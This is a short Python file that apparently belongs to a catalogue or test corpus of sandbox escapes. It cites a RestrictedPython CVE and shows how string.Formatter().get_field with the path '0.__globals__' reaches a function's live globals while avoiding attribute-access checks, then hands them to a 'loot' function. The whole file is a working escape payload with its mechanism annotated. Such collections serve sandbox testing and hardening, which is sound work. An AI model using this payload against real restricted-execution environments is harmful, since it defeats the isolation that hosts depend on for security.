# aim: walk to a function's globals without writing an attribute
# mechanism: string.Formatter().get_field, which gives live objects and not their text
# source: CVE-2026-76825 (RestrictedPython)
# language: builtins
# reason: the walk of a format string obeys the same table as attributes
# jail: process
# plain: loot
import json
import string
loot(string.Formatter().get_field("0.__globals__", [json.dumps], {})[0])
